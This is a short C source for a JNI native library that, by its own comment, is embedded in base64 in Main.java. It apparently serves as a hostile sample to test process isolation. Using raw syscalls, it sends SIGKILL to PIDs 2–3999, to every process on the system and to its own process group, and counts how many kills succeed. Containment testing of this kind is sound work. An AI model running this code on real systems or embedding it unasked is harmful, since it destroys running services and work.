/* What Main.java carries in base64: gcc -O1 -shared -nostdlib -fPIC -fcf-protection=none -fno-stack-protector -Wl,-z,noseparate-code
   -Wl,-s -Wl,--build-id=none everybody.c. Linux on x86-64 only. Sends SIGKILL to its process group, to every process there is, and to the first ones by number. */
static long call(long n, long a, long b, long c, long d, long e, long f) {
    long result;
    register long r10 __asm__("r10") = d;
    register long r8 __asm__("r8") = e;
    register long r9 __asm__("r9") = f;
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                     : "rcx", "r11", "memory");
    return result;
}

int Java_Main_signalled(void *env, void *self) {
    int reached = 0;
    for (int pid = 2; pid < 4000; pid++) {
        int own_thread = call(234, 1, pid, 0, 0, 0, 0) == 0; /* tgkill(1, pid, 0) */
        reached += !own_thread && call(62, pid, 9, 0, 0, 0, 0) == 0;
    }
    reached += call(62, -1, 9, 0, 0, 0, 0) == 0;
    call(62, 0, 9, 0, 0, 0, 0);
    return reached;
}
